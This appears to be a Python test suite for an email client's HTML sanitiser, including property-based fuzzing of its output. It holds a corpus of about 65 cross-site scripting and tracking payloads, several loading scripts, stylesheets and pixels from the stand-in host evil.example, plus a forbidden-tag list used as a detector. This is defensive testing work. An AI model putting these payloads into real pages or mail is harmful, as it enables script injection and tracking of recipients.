"""HTML mail loads nothing, runs nothing and submits nothing, whatever it tries."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.inbox.html import document, sanitise

PNG = b"\x89PNG\r\n\x1a\n"
ALLOWED_PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*", re.IGNORECASE)
FORBIDDEN = {
    "script", "style", "svg", "math", "iframe", "frame", "object", "embed", "applet", "form", "input",
    "button", "select", "textarea", "link", "meta", "base", "audio", "video", "source", "track", "picture",
    "template", "noscript", "portal", "body", "html", "head", "marquee", "dialog", "xml",
}  # fmt: skip
LOADING = re.compile(r"url|@import|expression|image|\\|javascript", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects what a browser would find dangerous in a fragment."""

    def __init__(self):
        super().__init__()
        self.findings = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN:
            self.findings.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_comment(self, data):
        self.findings.append(f"comment {data}")

    def _attribute(self, tag, name, value):
        bad = (
            name.startswith("on")
            or name
            in {"srcset", "background", "action", "formaction", "ping", "poster", "id", "class", "xmlns"}
            or (name == "src" and not (tag == "img" and ALLOWED_PICTURE.fullmatch(value)))
            or (name == "href" and not (tag == "a" and re.match(r"(?i)(https?|mailto|tel):", value)))
            or (name == "style" and LOADING.search(value))
        )
        if bad:
            self.findings.append(f"{tag} {name}={value}")


def dangers(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.findings


class Reader(HTMLParser):
    """Collects elements, their attributes in any order, and text."""

    def __init__(self):
        super().__init__()
        self.events = []

    def handle_starttag(self, tag, attrs):
        self.events.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        self.events.append(("/", tag))

    def handle_data(self, data):
        self.events.append(("text", data))


def elements(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.events


CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<table><td><style><a title='</style><img src onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/"><a href="x">x</a><img src="x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/x"><link rel=dns-prefetch href=//evil.example>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x0A;ScRiPt:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" ping="https://evil.example/">x</a>',
    '<a href="/s/other/delete">x</a><a href="//evil.example">x</a><a href="?x">x</a>',
    '<img src="https://evil.example/p.gif">',
    '<img src="//evil.example/p.gif" srcset="https://evil.example/2.gif 2x">',
    '<img src="\\\\evil.example\\p.gif">',
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<img src="data:text/html;base64,AAAA">',
    '<img lowsrc="https://evil.example/p.gif" dynsrc="https://evil.example/p.gif">',
    '<picture><source srcset="https://evil.example/p.webp"><img src="x"></picture>',
    '<video poster="https://evil.example/p.gif" src="https://evil.example/v.mp4" autoplay></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<body background="https://evil.example/p.gif" onload=alert(1)>x',
    '<table background="https://evil.example/p.gif"><td background="//evil.example/p.gif">x',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>p{background:url(https://evil.example/p.gif)}</style><p>x",
    '<p style="background:url(https://evil.example/p.gif)">x',
    '<p style="background:\\75rl(https://evil.example/p.gif)">x',
    '<p style="background-image:image-set(\'https://evil.example/p.gif\' 1x)">x',
    '<p style="width:expression(alert(1))">x',
    '<p style="behavior:url(x.htc);-moz-binding:url(x)">x',
    '<p style="list-style:url(https://evil.example/p.gif);content:url(//evil.example)">x',
    '<p style="color:red;background:url(&quot;a;color:blue;b&quot;)">x',
    '<p style="position:fixed;inset:0;z-index:9">x',
    '<p style="font-family:x;} @import \'https://evil.example/x.css\'; {">x',
    '<form action="//evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
    '<input type=image src="https://evil.example/p.gif">',
    '<button onclick=alert(1)>x</button><details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee><dialog open onclose=alert(1)>x</dialog>',
    '<div id="content" class="skip" name="x">x</div>',
    '<x-element onfocus=alert(1) tabindex=1 autofocus>x',
]  # fmt: skip


@pytest.mark.parametrize("html", CORPUS)
def test_known_attacks_leave_nothing_dangerous(html):
    clean, _ = sanitise(html, {})
    assert dangers(clean) == []


@pytest.mark.parametrize("html", CORPUS)
def test_what_is_clean_stays_as_it_is_when_it_is_read_again(html):
    clean, _ = sanitise(html, {})
    assert elements(sanitise(clean, {})[0]) == elements(clean)


def test_the_inspector_of_these_tests_sees_what_it_should():
    assert len([html for html in CORPUS if dangers(html)]) > 55


PIECES = st.sampled_from(
    [piece for html in CORPUS for piece in re.findall(r"<[^<>]*>|[^<>]+", html)]
    + [
        "<p>",
        "</p>",
        "<td>",
        "</table>",
        "<!--",
        "-->",
        "]]>",
        "'",
        '"',
        "`",
        "\x00",
        "&lt;",
        "&#x3c;",
        "</style>",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
def test_no_markup_whatever_gets_anything_dangerous_through(html):
    clean, blocked = sanitise(html, {})
    assert dangers(clean) == []
    assert blocked >= 0


def test_a_picture_of_the_message_is_shown_from_within():
    clean, blocked = sanitise('<img src="cid:logo%40x" alt="Logo">', {"logo@x": ("image/PNG", PNG)})
    assert elements(clean) == [("img", {"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "Logo"})]
    assert blocked == 0


@pytest.mark.parametrize(
    "inline",
    [
        {},
        {"a": ("image/svg+xml", b"<svg/>")},
        {"a": ("text/html", b"<b>")},
        {"a": ("image/png", b"x" * (2 * 1024 * 1024 + 1))},
    ],
    ids=["unknown", "svg", "html", "above 2 MiB"],
)
def test_an_enclosure_that_is_no_small_picture_is_left_out(inline):
    assert sanitise('<img src="cid:a" alt="A">', inline) == ('<img alt="A">', 0)


def test_a_picture_of_exactly_two_mebibytes_is_shown():
    clean, _ = sanitise('<img src="cid:a">', {"a": ("image/png", b"x" * (2 * 1024 * 1024))})
    assert clean.startswith('<img src="data:image/png;base64,')


def test_links_open_elsewhere_and_tell_nothing():
    clean, _ = sanitise('<a href="https://clinic.example/iron" target="_top" rel="opener">iron</a>', {})
    href, rel = "https://clinic.example/iron", "noopener noreferrer nofollow"
    link = ("a", {"href": href, "target": "_blank", "rel": rel})
    assert elements(clean) == [link, ("text", "iron"), ("/", "a")]


@pytest.mark.parametrize(
    ("html", "blocked"),
    [
        ('<img src="https://t.example/a.gif"><img src="HTTP://t.example/b.gif">', 2),
        ('<img src="//t.example/a.gif">', 1),
        ('<td style="color:red">x', 0),
        ('<table><td background="https://t.example/a.gif">x', 1),
        ('<p style="background:url(https://t.example/a.gif)">x', 1),
        ('<img src="cid:gone"><img src="a.gif"><img src="data:image/png;base64,AA">', 0),
    ],
)
def test_remote_images_are_left_out_and_counted(html, blocked):
    assert sanitise(html, {})[1] == blocked


def test_ordinary_mail_keeps_its_looks():
    html = '<h1>Hi</h1><p style="color:red;text-align:center">a <b>b</b></p><ul><li>c</li></ul>'
    assert sanitise(html, {}) == (html, 0)


def test_a_letter_follows_the_dark_scheme_unless_it_has_colours_of_its_own():
    assert "prefers-color-scheme:dark" in document("<p>plain</p>")
    assert "prefers-color-scheme:dark" not in document('<p style="color:#000">black</p>')
    assert "prefers-color-scheme:dark" not in document('<table bgcolor="#fff"></table>')
